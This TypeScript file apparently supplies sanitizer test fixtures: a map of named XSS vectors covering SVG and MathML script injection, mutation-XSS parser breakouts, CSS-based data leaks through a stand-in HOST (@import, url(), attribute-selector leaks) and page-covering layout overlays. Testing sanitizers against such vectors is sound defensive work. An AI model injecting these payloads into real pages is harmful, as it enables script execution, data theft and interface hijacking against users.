/** Vectors in SVG, MathML, markup whose meaning changes when parsed again, and style sheets. See `html-vectors.ts`. */
export const markupVectors: Record<string, string> = {
  'svg-script': '<svg><script>RUN</script></svg>',
  'svg-script-entities': '<svg><script>&#x52;UN;RUN</script></svg>',
  'svg-script-href':
    '<svg><script href="data:text/javascript,RUN"/><script xlink:href="https://HOST/x.js"/></svg>',
  'svg-onload': '<svg onload="RUN">',
  'svg-onload-slash': '<svg/onload=RUN>',
  'svg-onbegin': '<svg><animate onbegin="RUN" onend="RUN" attributeName=x dur=1ms></svg>',
  'svg-set-handler': '<svg><set attributeName=onmouseover to="RUN"/><rect width=9 height=9/></svg>',
  'svg-animate-href': '<svg><a><animate attributeName=href values="javascript:RUN"/><text>x</text></a></svg>',
  'svg-a-xlink': '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  'svg-use-data':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%27http://www.w3.org/2000/svg%27 onload=%27RUN%27/>#x"/></svg>',
  'svg-use-remote': '<svg><use xlink:href="https://HOST/s.svg#x"/></svg>',
  'svg-image-remote':
    '<svg><image href="https://HOST/i" onload="RUN" onerror="RUN"/><feImage href="https://HOST/f"/></svg>',
  'svg-foreign-object':
    '<svg><foreignObject><body onload="RUN"><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
  'svg-style': '<svg><style>@import "https://HOST/s.css";*{fill:url(https://HOST/f)}</style><rect/></svg>',
  'svg-title-breakout': '<svg><title><style><img src=x onerror="RUN"></title></svg>',
  'svg-desc-breakout': '<svg><desc><noscript><img src=x onerror="RUN"></noscript></desc></svg>',
  'svg-p-breakout': '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  'svg-cursor-filter':
    '<svg><cursor xlink:href="https://HOST/c"/><rect filter="url(https://HOST/f#x)" mask="url(https://HOST/m)"/></svg>',
  'svg-handler-element': '<svg><handler type="text/javascript" ev:event=load>RUN</handler></svg>',
  'svg-data-image':
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>RUN</script><image href=%22https://HOST/i%22/></svg>">',
  'math-href': '<math href="javascript:RUN"><mi>x</mi></math>',
  'math-action':
    '<math><maction actiontype="statusline#https://HOST" xlink:href="javascript:RUN">x</maction></math>',
  'math-annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror="RUN"></annotation-xml></math>',
  'math-style-mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  'math-mglyph-mutation':
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="RUN"></style></mglyph></form>',
  'math-xmp-mutation': '<math><mi><xmp><p title="</xmp><img src=x onerror=RUN>"></xmp></mi></math>',
  'svg-style-mutation': '<svg><style><!--</style><img src=x title="--><img src=x onerror=RUN>"></svg>',
  'svg-noscript-mutation': '<svg><noscript><style></noscript><img src=x onerror="RUN"></svg>',
  'select-template-mutation':
    '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=RUN>">',
  'nested-form-mutation':
    '<form id=x></form><table><form><tr><td><math><mtext><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>"></form></table>',
  'comment-mutation': '<!--<img src="--><img src=x onerror=RUN//">',
  'comment-dash-mutation':
    '<a title="--!><img src=x onerror=RUN>"></a><!-- <a title=" --!> <img src=x onerror=RUN> -->',
  'attribute-backtick-mutation': '<img alt="``onerror=RUN" src=x><a title=`<img src=x onerror=RUN>`>x</a>',
  'entity-mutation': '<noscript>&lt;/noscript&gt;&lt;img src=x onerror=RUN&gt;</noscript>',
  'textarea-mutation': '<textarea>&lt;/textarea&gt;&lt;img src=x onerror=RUN&gt;</textarea>',
  'listing-mutation': '<listing>&lt;img src=x onerror=RUN&gt;</listing>',
  'custom-name-mutation':
    '<font-face/><svg><annotation-xml><desc><style><a title="</style><img src=x onerror=RUN>">',
  'selectedcontent-mutation':
    '<select><button><selectedcontent></selectedcontent></button><option><div><img src=x onerror=RUN></div></option></select>',
  'xml-namespace': '<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script><xml:namespace ns="x">',
  'style-import': '<style>@import "https://HOST/a.css";@import url(//HOST/b.css) screen;</style>',
  'style-import-after-comment': '<style><!-- @import "https://HOST/a.css"; --></style>',
  'style-url':
    '<style>body{background:url(https://HOST/b)}p::before{content:url("https://HOST/c")}</style><p>x</p>',
  'style-url-escaped':
    '<style>body{background:u\\72l(https://HOST/b);list-style:\\75\\72\\6c("//HOST/c")}</style><li>x</li>',
  'style-url-commented':
    '<style>body{background:/**/url(/**/"https://HOST/b")}li{list-style:url("https\\3a//HOST/l")}</style><li>x</li>',
  'style-image-set':
    '<style>body{background:image-set("https://HOST/a.png" 1x)}p{background:-webkit-image-set(url(//HOST/b) 1x)}</style><p>x</p>',
  'style-font-face':
    '<style>@font-face{font-family:f;src:url(https://HOST/f.woff)}body{font-family:f}</style>x',
  'style-variable':
    '<style>body{--u:url(https://HOST/v);background:var(--u)}</style><p style="--w:url(//HOST/w);background:var(--w)">x</p>',
  'style-cursor-filter':
    '<p style="cursor:url(https://HOST/c),auto;filter:url(https://HOST/f#x);mask:url(//HOST/m)">x</p>',
  'style-attribute-url': '<p style="background:url(https://HOST/a);border-image:url(\'//HOST/b\')">x</p>',
  'style-attribute-entities': '<p style="background:&#117;rl(https://HOST/e)">x</p>',
  'style-leak-by-selector': '<style>input[value^=a]{background:url(https://HOST/a)}</style><input value=abc>',
  'style-expression':
    '<p style="width:expression(RUN);behavior:url(https://HOST/b);-moz-binding:url(https://HOST/x)">x</p>',
  'style-url-javascript':
    '<p style="background:url(javascript:RUN)">x</p><style>p{background:url("javascript:RUN")}</style>',
  'style-namespace-document':
    '<style>@namespace "https://HOST/n";@document url(https://HOST/){p{}}@charset "x";</style><p>x</p>',
  'style-nested':
    '<style>@media screen{@supports (display:grid){p{&:hover,&{background:url(https://HOST/n)}}}}</style><p>x</p>',
  'style-unclosed': '<style>body{background:url(https://HOST/u',
  'style-string-end':
    '<p style="content:\'</style><script>RUN</script>\'">x</p><style>p{content:"\\3c/style>\\3cscript>RUN"}</style>',
  'layout-fixed-over-all':
    '<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red">x</div>',
  'layout-negative-margin': '<div style="margin:-5000px;width:99999px;height:99999px;background:red">x</div>',
  'layout-transform': '<body style="transform:scale(50) translate(-50%,-50%);position:absolute"><h1>x</h1>',
  'layout-important':
    '<style>*,html,body{all:initial!important;position:fixed!important;width:500vw!important;height:500vh!important}</style>',
  'layout-dialog': '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">x</dialog>',
  'layout-fullscreen':
    '<video controls style="position:fixed;inset:0" width=9999 height=9999></video><p popover style="display:block;inset:0">x</p>',
  // PLAINTEXT has no end tag.
  'script-in-plaintext': '<plaintext><script>RUN</script>',
};
